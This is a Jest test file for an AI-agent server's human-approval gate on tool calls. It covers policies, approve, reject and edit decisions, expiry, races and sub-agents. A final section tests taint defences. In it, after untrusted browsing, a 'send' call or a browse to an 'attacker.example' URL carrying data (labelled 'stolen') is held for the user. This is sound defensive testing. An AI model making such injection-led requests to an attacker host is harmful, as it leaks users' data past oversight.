import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { type Asked, type Call, type LlmServer, type Script } from '../fakes/llm-server.js';
import { startOpenAiServer } from '../fakes/openai-server.js';
import { addMember } from '../support/accounts.js';
import { GatedTools } from '../support/gated-tools.js';
import { readEvents, startRun, warmUp } from '../support/runs.js';
import { until } from '../support/server-process.js';
import { startTestApp, type TestApp, type TestResponse } from '../support/test-app.js';

const folder = mkdtempSync(path.join(tmpdir(), 'mcp-server-approvals-'));
const tools = new GatedTools(folder);
let llm: LlmServer;
let server: TestApp;
let token: string;
beforeAll(async () => {
  await warmUp();
  llm = await startOpenAiServer();
  llm.think(obedient);
  server = await startTestApp({
    EXTENSIONS_DIR: tools.extensions,
    LLM_MODEL: 'openai:fake-1',
    OPENAI_BASE_URL: llm.url,
    OPENAI_API_KEY: 'sk-test',
  });
  token = await server.login();
  await makeAgent('worker', {});
  await makeAgent('careful', { approval: 'always' });
  await makeAgent('reckless', { approval: 'never' });
  await makeAgent('boss', { tools: [], subAgents: ['worker'], pattern: 'supervisor' });
});
afterAll(async () => {
  await server?.stop();
  await llm?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Does what the question says, each line being the calls of one message, and tells the results. */
function obedient({ question, results, tools: offered }: Asked): Script {
  if (offered.includes('ask_worker') && results.length === 0)
    return { kind: 'reply', calls: [{ name: 'ask_worker', args: { task: question } }] };
  const messages = question
    .split('\n')
    .filter((line) => line.startsWith('do:'))
    .map((line) => Buffer.from(line.slice(3), 'base64').toString());
  let seen = 0;
  for (const message of messages) {
    if (offered.includes('ask_worker')) break;
    const calls = (JSON.parse(message) as [string, string][]).map(([name, text]): Call => ({
      name,
      args: { text },
    }));
    if (results.length === seen) return { kind: 'reply', calls };
    seen += calls.length;
  }
  return { kind: 'reply', text: `Results: ${results.join(' | ')}` };
}

/** An order that names nothing in clear: what the user writes counts as named by him. */
const order = (calls: [string, string][]) => `do:${Buffer.from(JSON.stringify(calls)).toString('base64')}`;

async function makeAgent(name: string, more: object): Promise<void> {
  const body = { name, description: name, instructions: 'Do it.', tools: ['*'], ...more };
  const made = await server.call('POST', '/api/v1/agents', { token, body });
  if (made.status !== 201) throw new Error(JSON.stringify(made.body));
}

const wait = async (id: string) =>
  (await server.call('GET', `/api/v1/runs/${id}/wait?timeoutMs=20000`, { token })).body;
const pendingOf = async (runId: string) =>
  (await server.call('GET', `/api/v1/approvals?status=pending&runId=${runId}`, { token })).body.items;
const decide = (id: string, body: object, as = token): Promise<TestResponse> =>
  server.call('POST', `/api/v1/approvals/${id}`, { token: as, body });
const eventsOf = (id: string) => readEvents(`${server.url}/api/v1/runs/${id}/events`, { token });

/** Starts a run that makes these calls, message by message, and waits until it ends or asks. */
async function run(messages: [string, string][][], agent = 'worker', intro = '') {
  const input = [intro, ...messages.map(order)].join('\n');
  const { conversationId, run: made } = await startRun(server, token, { input, agent });
  const state = await wait(made.id);
  const approvals = await pendingOf(made.id);
  return { id: made.id, conversationId, state, approvals, approval: approvals[0] };
}
const word = () => `w-${randomUUID().slice(0, 8)}`;

describe('which calls need an approval', () => {
  it.each([
    ['look', 'worker', false],
    ['note', 'worker', false],
    ['wipe', 'worker', true],
    ['unknown', 'worker', true],
    ['look', 'careful', true],
    ['wipe', 'reckless', true],
  ])('%s of %s: %s', async (tool, agent, needed) => {
    const text = word();
    const { state, approvals } = await run([[[tool, text]]], agent);
    expect(state.status).toBe(needed ? 'requires_action' : 'completed');
    expect(approvals).toHaveLength(needed ? 1 : 0);
    expect(tools.done(text)).toEqual(needed ? [] : [tool]);
  });

  it('the stricter of tool and agent counts; a changed policy counts at once', async () => {
    const policy = (approval: string) =>
      server.call('PATCH', '/api/v1/tools/look', { token, body: { policy: { approval } } });
    await policy('always');
    expect((await run([[['look', word()]]])).state.status).toBe('requires_action');
    await policy('never');
    expect((await run([[['look', word()]]], 'careful')).state.status).toBe('requires_action');
    expect((await run([[['look', word()]]])).state.status).toBe('completed');
    await policy('destructive');
  });

  it('[S66] an unknown, a broken and a quarantined tool ask nobody: the model is told, the run goes on', async () => {
    await server.sql(`update tools set state = 'quarantined' where name = 'wipe'`);
    const text = word();
    await until('it is known', async () => {
      const tool = await server.call('GET', '/api/v1/tools/wipe', { token });
      return tool.body.state === 'quarantined';
    });
    const { state } = await run([[['wipe', text]], [['nothing_like_it', text]], [['look', text]]]);
    await server.sql(`update tools set state = 'active' where name = 'wipe'`);
    expect(state.status).toBe('completed');
    expect(state.output.text).toContain('There is no tool "wipe" here.');
    expect(state.output.text).toContain('There is no tool "nothing_like_it" here.');
    expect(tools.done(text)).toEqual(['look']);
    await until('it is back', async () => {
      const tool = await server.call('GET', '/api/v1/tools/wipe', { token });
      return tool.body.state === 'active';
    });
  });
});

describe('an approval', () => {
  it('[S67] lets exactly the approved call run, once, and the run goes on to its end', async () => {
    const text = word();
    const { id, approval } = await run([[['wipe', text]], [['look', text]]]);
    expect(approval).toMatchObject({
      ...{ runId: id, kind: 'tool_call', reason: 'policy', tool: 'wipe', agent: 'worker', status: 'pending' },
      arguments: { text },
      argumentsHash: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(tools.done(text)).toEqual([]);
    const answer = await decide(approval.id, { decision: 'approve', argumentsHash: approval.argumentsHash });
    expect([answer.status, answer.body.status]).toEqual([202, 'approved']);
    const done = await wait(id);
    expect(done).toMatchObject({ status: 'completed', usage: { toolCalls: 2 } });
    expect(done.output.text).toBe(`Results: wipe did ${text} | look did ${text}`);
    expect(tools.done(text)).toEqual(['wipe', 'look']);
    // A replay changes nothing and makes no call.
    const again = await decide(approval.id, { decision: 'approve' });
    expect([again.status, again.body.code]).toEqual([409, 'approval_not_pending']);
    expect(tools.done(text)).toHaveLength(2);
    const events = await eventsOf(id);
    expect(events.map((event) => event.id)).toEqual(events.map((_, index) => index + 1));
    const types = events.map((event) => event.type);
    const about = types.filter((type) => /^(approval|run|tool_call)\./.test(type));
    expect(about).toEqual([
      ...['run.created', 'run.queued', 'run.started', 'approval.requested', 'run.requires_action'],
      ...['run.queued', 'approval.resolved', 'tool_call.started', 'tool_call.completed'],
      ...['tool_call.started', 'tool_call.completed', 'run.completed'],
    ]);
    const [entry] = await server.sql(
      `select details from audit_log where action = 'approval.decided' and target_id = $1`,
      [approval.id],
    );
    expect(entry).toMatchObject({ details: { status: 'approved', tool: 'wipe', edited: false } });
  });

  it('[S67] is nobody else’s, and for no other call than the one that was shown', async () => {
    const text = word();
    const { id, approval } = await run([[['wipe', text]]]);
    const stranger = await addMember(server, 'admin');
    const foreign = await decide(approval.id, { decision: 'approve' }, stranger.token);
    expect([foreign.status, foreign.body.code]).toEqual([404, 'approval_not_found']);
    const other = await decide(approval.id, { decision: 'approve', argumentsHash: '0'.repeat(64) });
    expect([other.status, other.body.code]).toEqual([409, 'approval_not_pending']);
    // Even a row that somebody changed behind the server's back is not run: the hash does not fit.
    await server.sql(`update approvals set arguments = '{"text":"everything"}' where id = $1`, [approval.id]);
    await decide(approval.id, { decision: 'approve' });
    const state = await wait(id);
    expect(state.status).toBe('requires_action');
    expect([...tools.done('everything'), ...tools.done(text)]).toEqual([]);
    expect(await pendingOf(id)).toHaveLength(1);
  });

  it('a rejected call is an error for the model, with the reason', async () => {
    const text = word();
    const { id, approval } = await run([[['wipe', text]]]);
    await decide(approval.id, { decision: 'reject', reason: 'Not on a Sunday' });
    const done = await wait(id);
    expect(done.status).toBe('completed');
    expect(done.output.text).toContain(
      'The user rejected this call; it was not made. Reason: Not on a Sunday',
    );
    expect(tools.done(text)).toEqual([]);
    const events = await eventsOf(id);
    expect(events.find((event) => event.type === 'tool_call.failed')?.data.error.code).toBe(
      'approval_rejected',
    );
  });

  it('can be edited: new arguments are checked, bound, run, and told to the model', async () => {
    const [text, better] = [word(), word()];
    const { id, approval } = await run([[['wipe', text]]]);
    const wrong = await decide(approval.id, { decision: 'edit', arguments: { text: 5 } });
    expect([wrong.status, wrong.body.code]).toEqual([400, 'invalid_tool_arguments']);
    expect(wrong.body.errors[0].field).toContain('text');
    const bare = await decide(approval.id, { decision: 'edit' });
    expect([bare.status, bare.body.code]).toEqual([400, 'invalid_request']);
    const edited = await decide(approval.id, { decision: 'edit', arguments: { text: better } });
    expect(edited.body).toMatchObject({ arguments: { text: better }, requestedArguments: { text } });
    expect(edited.body.argumentsHash).not.toBe(approval.argumentsHash);
    const done = await wait(id);
    expect(done.output.text).toContain(`wipe did ${better}`);
    expect(done.output.text).toContain('The user changed the arguments');
    expect([tools.done(text), tools.done(better)]).toEqual([[], ['wipe']]);
    const resolved = (await eventsOf(id)).find((event) => event.type === 'approval.resolved');
    expect(resolved?.data).toMatchObject({ decision: 'edited', arguments: { text: better } });
  });

  it('[S92] of 50 decisions at once one counts, the others get 409, the call is made at most once', async () => {
    const text = word();
    const { id, approval } = await run([[['wipe', text]]]);
    const answers = await Promise.all(
      Array.from({ length: 50 }, (_, n) => decide(approval.id, { decision: n % 2 ? 'approve' : 'reject' })),
    );
    expect(answers.filter(({ status }) => status === 202)).toHaveLength(1);
    expect(answers.filter(({ body }) => body.code === 'approval_not_pending')).toHaveLength(49);
    const winner = answers.find(({ status }) => status === 202)?.body.status;
    await wait(id);
    expect(tools.done(text)).toEqual(winner === 'approved' ? ['wipe'] : []);
  });

  it('asks again when the tool changed in between; the old answer is worth nothing', async () => {
    const text = word();
    const { id, approval } = await run([[['unknown', text]]]);
    tools.change('unknown', '{}');
    const reloaded = await server.call('POST', '/api/v1/tools/reload', { token });
    expect(reloaded.body.problems).toEqual([]);
    const late = await decide(approval.id, { decision: 'approve' });
    expect([late.status, late.body.code]).toEqual([409, 'approval_outdated']);
    expect((await wait(id)).status).toBe('requires_action');
    expect(tools.done(text)).toEqual([]);
    const [next] = await pendingOf(id);
    expect(next.id).not.toBe(approval.id);
    expect(next.definitionHash).not.toBe(approval.definitionHash);
    await decide(next.id, { decision: 'approve' });
    expect((await wait(id)).status).toBe('completed');
    expect(tools.done(text)).toEqual(['unknown']);
  });

  it('expires: the call is refused and the run goes on; time spent waiting is not its time', async () => {
    const text = word();
    const { id, approval } = await run([[['wipe', text]]]);
    await server.sql(
      `update runs set started_at = started_at - interval '1 hour', waiting_since = waiting_since - interval '1 hour' where id = $1`,
      [id],
    );
    await server.sql(`update approvals set expires_at = now() where id = $1`, [approval.id]);
    const late = await decide(approval.id, { decision: 'approve' });
    expect([late.status, late.body.code]).toEqual([409, 'approval_not_pending']);
    await until('it went on', async () => (await wait(id)).status === 'completed', 20_000);
    expect((await wait(id)).output.text).toContain('Nobody approved this call in time');
    expect(tools.done(text)).toEqual([]);
    expect((await server.call('GET', `/api/v1/approvals/${approval.id}`, { token })).body.status).toBe(
      'expired',
    );
  });

  it('goes with its run when that is cancelled', async () => {
    const { id, approval } = await run([[['wipe', word()]]]);
    await server.call('POST', `/api/v1/runs/${id}/cancel`, { token });
    const answer = await decide(approval.id, { decision: 'approve' });
    expect([answer.status, answer.body.code]).toEqual([409, 'approval_not_pending']);
    expect((await server.call('GET', `/api/v1/approvals/${approval.id}`, { token })).body.status).toBe(
      'cancelled',
    );
  });
});

describe('several calls of one message', () => {
  it('are all asked for at once; those that need no approval run meanwhile', async () => {
    const text = word();
    const { id, state, approvals } = await run([
      [
        ['wipe', text],
        ['look', text],
        ['unknown', text],
      ],
    ]);
    expect(state.status).toBe('requires_action');
    expect(approvals.map((approval: { tool: string }) => approval.tool).sort()).toEqual(['unknown', 'wipe']);
    expect(tools.done(text)).toEqual(['look']);
    const last = (await eventsOf(id)).at(-1);
    expect(last).toMatchObject({ type: 'run.requires_action', data: { reason: 'approval' } });
    expect(last?.data.approvalIds).toHaveLength(2);
    await decide(approvals[0].id, { decision: 'approve' });
    expect((await wait(id)).status).toBe('requires_action');
    await decide(approvals[1].id, { decision: 'reject' });
    expect((await wait(id)).status).toBe('completed');
    expect(tools.done(text).sort()).toEqual(['look', approvals[0].tool].sort());
  });

  it('of a sub-agent are asked for in its name', async () => {
    const text = word();
    const { id, approval } = await run([[['wipe', text]]], 'boss');
    expect(approval).toMatchObject({ agent: 'worker', step: expect.stringMatching(/^boss>worker:/) });
    await decide(approval.id, { decision: 'approve' });
    expect((await wait(id)).status).toBe('completed');
    expect(tools.done(text)).toEqual(['wipe']);
  });

  it('more than five approvals in a row are no crashes', async () => {
    const text = word();
    const { id } = await run(Array.from({ length: 7 }, (_, n) => [['wipe', `${text}-${n}`]]));
    for (let n = 0; n < 7; n += 1) {
      const [approval] = await pendingOf(id);
      await decide(approval.id, { decision: 'approve' });
      await wait(id);
    }
    expect((await wait(id)).status).toBe('completed');
    for (let n = 0; n < 7; n += 1) expect(tools.done(`${text}-${n}`)).toEqual(['wipe']);
  });
});

describe('[S68] after untrusted content', () => {
  it('what could carry data to somebody new waits for the user, audited', async () => {
    const text = word();
    const { id, state, approval } = await run([[['browse', text]], [['send', text]]]);
    expect(state.status).toBe('requires_action');
    expect(approval).toMatchObject({ tool: 'send', reason: 'policy_tainted' });
    expect(tools.done(text)).toEqual(['browse']);
    const [entry] = await server.sql(
      `select details from audit_log where action = 'tool_call.held' and target_id = $1`,
      [id],
    );
    expect(entry).toMatchObject({ details: { reason: 'policy_tainted', tool: 'send' } });
  });

  it('a later run of the conversation is tainted too; another conversation is not', async () => {
    const text = word();
    const { conversationId } = await run([[['browse', text]]]);
    const next = await server.call('POST', `/api/v1/conversations/${conversationId}/runs`, {
      token,
      body: { input: order([['send', text]]), agent: 'worker' },
    });
    expect((await wait(next.body.id)).status).toBe('requires_action');
    expect((await run([[['send', text]]])).state.status).toBe('completed');
  });

  it('reading goes on at origins that the user named, not at others', async () => {
    const page = 'https://docs.example.com/a';
    const stolen = `https://attacker.example/?q=${word()}`;
    const named = await run([[['browse', page]], [['browse', `${page}?b`]]], 'worker', `Read ${page}`);
    expect(named.state.status).toBe('completed');
    const led = await run([[['browse', page]], [['browse', stolen]]], 'worker', `Read ${page}`);
    expect(led.approval).toMatchObject({ tool: 'browse', reason: 'policy_tainted' });
    expect(tools.done(stolen)).toEqual([]);
  });
});
